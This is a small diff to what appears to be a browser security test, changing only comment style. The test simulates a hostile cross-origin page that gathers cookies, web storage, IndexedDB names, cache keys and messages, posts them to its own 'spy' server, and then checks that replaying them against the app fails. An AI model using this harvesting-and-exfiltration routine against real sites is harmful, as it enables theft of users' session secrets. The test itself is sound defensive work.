@@ -253,7 +253,7 @@ for (const host of ['127.0.0.1', 'localhost'])
       const spy = await spyingServer(host)
       const foreign = await context.newPage()
       await foreign.goto(spy.url)
-      // everything that the other server's page can read or receive in this browser is sent to that server
+      // Everything that the other server's page can read or receive in this browser is sent to that server.
       await foreign.evaluate(async (target) => {
         const heard: string[] = []
         for (const name of ['countersign-page-secret', 'countersign']) {
@@ -266,13 +266,13 @@ for (const host of ['127.0.0.1', 'localhost'])
         addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)))
         const databases = await indexedDB.databases()
         const cached = await caches.keys()
-        // this wait is longer than a window waits for the answer of another window
+        // This wait is longer than a window waits for the answer of another window.
         await new Promise((resolve) => setTimeout(resolve, 1_000))
         const stored = [JSON.stringify({ ...sessionStorage }), JSON.stringify({ ...localStorage }), document.cookie, document.referrer]
         try {
           stored.push(popup?.location.href ?? '')
         } catch {
-          // the browser hides the address from the page, as required
+          // The browser hides the address from the page, as required.
         }
         await fetch('/found', { method: 'POST', body: JSON.stringify([heard, databases, cached, stored]) })
       }, ours)
@@ -281,7 +281,7 @@ for (const host of ['127.0.0.1', 'localhost'])
       const results = await spy.replayed(ours)
       expect(results.length).toBeGreaterThan(20)
       expect([...new Set(results)].toSorted()).toEqual(['/session 401', '/socket-token 401', 'socket 4401'])
-      // the same replay succeeds with the secrets of our own page, so the replay itself works
+      // The same replay succeeds with the secrets of our own page, so the replay itself works.
       const own = await page.evaluate(() => Object.values({ ...sessionStorage }).map(String))
       expect((await Promise.all(own.map((value) => replay(ours, value)))).flat()).toContain('/socket-token 200')
       spy.close()
